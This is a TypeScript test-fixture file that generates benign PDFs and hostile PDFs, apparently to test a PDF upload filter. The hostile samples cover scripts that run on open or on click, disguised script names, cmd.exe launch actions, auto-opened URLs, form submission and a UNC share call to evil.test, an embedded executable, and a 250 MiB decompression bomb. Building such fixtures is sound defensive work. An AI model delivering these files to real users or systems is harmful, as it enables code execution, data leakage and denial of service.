import { createPdf, link, pdfWithPacked, script, stream } from "./createPdf.ts";

/** Creates a harmless PDF. Its title makes it unique. */
export const pdf = (text = "resume"): Buffer =>
  createPdf({ trailer: "/Info 5 0 R", objects: [`<< /Title (${text}) >>`] });

/** Returns the text of `pdf`. */
export const getPdfText = (file: Uint8Array): string | undefined =>
  /\/Title \(([^)]*)\)/.exec(Buffer.from(file).toString("latin1"))?.[1];

export const harmlessPdfs: Record<string, () => Buffer> = {
  "a link": () => createPdf({ page: link("<< /S /URI /URI (https://example.com/) >>") }),
  "a place to open at": () => createPdf({ catalog: "/OpenAction [3 0 R /XYZ null null 0]" }),
  "a place to open at, as an action": () =>
    createPdf({ catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>" }),
  "a field to fill in": () =>
    createPdf({
      catalog: "/AcroForm << /Fields [5 0 R] >>",
      objects: ["<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>"],
    }),
  "objects that are packed": () => pdfWithPacked("/Names 5 0 R", ["<< /Dests 6 0 R >>", "<< >>"]),
  "a table of references that is wrong": () =>
    Buffer.from(
      pdf()
        .toString("latin1")
        .replace(/startxref\n\d+/, "startxref\n7"),
      "latin1",
    ),
  "no table of references": () =>
    Buffer.from(
      pdf()
        .toString("latin1")
        .replace(/xref[\s\S]*trailer/, "trailer"),
      "latin1",
    ),
  "no end": () => pdf().subarray(0, -12),
  "a place named like a script": () =>
    createPdf({
      catalog: "/Dests << /JavaScript [3 0 R /Fit] /JS [3 0 R /Fit] /EF [3 0 R /Fit] >>",
    }),
  "a structure named like a film": () =>
    createPdf({
      catalog: "/StructTreeRoot << /Type /StructTreeRoot /RoleMap << /Movie /P /Sound /P >> >>",
      objects: ["<< /Type /StructElem /S /Movie /P 6 0 R /A << /O /Layout /EF 1 >> >>", "<< >>"],
    }),
  "an empty tree of scripts": () =>
    createPdf({ catalog: "/Names << /JavaScript << /Names [] >> >>" }),
  "markup in its title": () => pdf("<html><script>alert</script>"),
  "markup in its text": () =>
    createPdf({ objects: ["<< /Length 25 >>\nstream\n<SCRIPT>alert(1)</SCRIPT>\nendstream"] }),
  "a button that shows a layer": () => createPdf({ page: link("<< /S /SetOCGState /State [] >>") }),
  "words that sound like a script": () => pdf("The JavaScript developer /JS of the year"),
};

export const hostilePdfs: Record<string, () => Buffer> = {
  "a PDF in name only": () => Buffer.from("%PDF-1.4 hello startxref 1 %%EOF"),
  "a PDF without a page": () =>
    Buffer.from(pdf().toString("latin1").replace("[3 0 R] /Count 1", "[     ] /Count 0"), "latin1"),
  "a PDF with a script when it opens": () => createPdf({ catalog: `/OpenAction ${script}` }),
  "a PDF with a script whose name is disguised": () =>
    createPdf({ catalog: `/OpenAction ${script.replaceAll("J", "#4a")}` }),
  "a PDF with a script in a packed object": () => pdfWithPacked("/OpenAction 5 0 R", [script]),
  "a PDF with a script when a page shows": () => createPdf({ page: `/AA << /O ${script} >>` }),
  "a PDF with a script behind a click": () => createPdf({ page: link(script) }),
  "a PDF with a script behind a place": () =>
    createPdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
  "a PDF with a script by its name": () =>
    createPdf({ catalog: "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", objects: [script] }),
  "a PDF with a script that nothing refers to": () => createPdf({ objects: [script] }),
  "a PDF that starts a program": () =>
    createPdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
  "a PDF that starts a program after a click": () =>
    createPdf({ page: link("<< /S /Launch /Win << /F (cmd.exe) >> >>") }),
  "a PDF that opens an address by itself": () =>
    createPdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.test/) >>" }),
  "a PDF that opens an address with its page": () =>
    createPdf({ page: "/AA << /O << /S /URI /URI (https://evil.test/) >> >>" }),
  "a PDF that opens a file on a share": () =>
    createPdf({ page: "/AA << /O << /S /GoToR /F (\\\\\\\\evil.test\\\\a) /D [0 /Fit] >> >>" }),
  "a PDF that sends a form": () =>
    createPdf({ page: link("<< /S /SubmitForm /F (https://evil.test/) >>") }),
  "a PDF with a file in it": () =>
    createPdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
      objects: [
        "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        stream("MZ", "/Type /EmbeddedFile"),
      ],
    }),
  "a PDF with a form of XML": () => createPdf({ catalog: "/AcroForm << /Fields [] /XFA (x) >>" }),
  "a PDF with a film": () =>
    createPdf({ page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]" }),
  "a PDF with a part from elsewhere": () =>
    createPdf({ objects: [stream("", "/F << /FS /URL /F (https://evil.test/) >>")] }),
  "a PDF of a million objects": () =>
    pdfWithPacked("/Names 5 0 R", [`[${"<< /A /B >> ".repeat(2_000_000)}]`]),
  "a PDF nested without an end": () => createPdf({ catalog: `/X ${"[".repeat(1_000_000)}` }),
  "a PDF whose pages run in a circle": () =>
    Buffer.from(pdf().toString("latin1").replace("/Kids [3 0 R]", "/Kids [2 0 R]"), "latin1"),
};

/** Unpacks to 250 MiB of spaces. */
export const pdfBomb = (): Buffer => pdfWithPacked("/Names 5 0 R", ["<< >>"], 250 * 1024 * 1024);
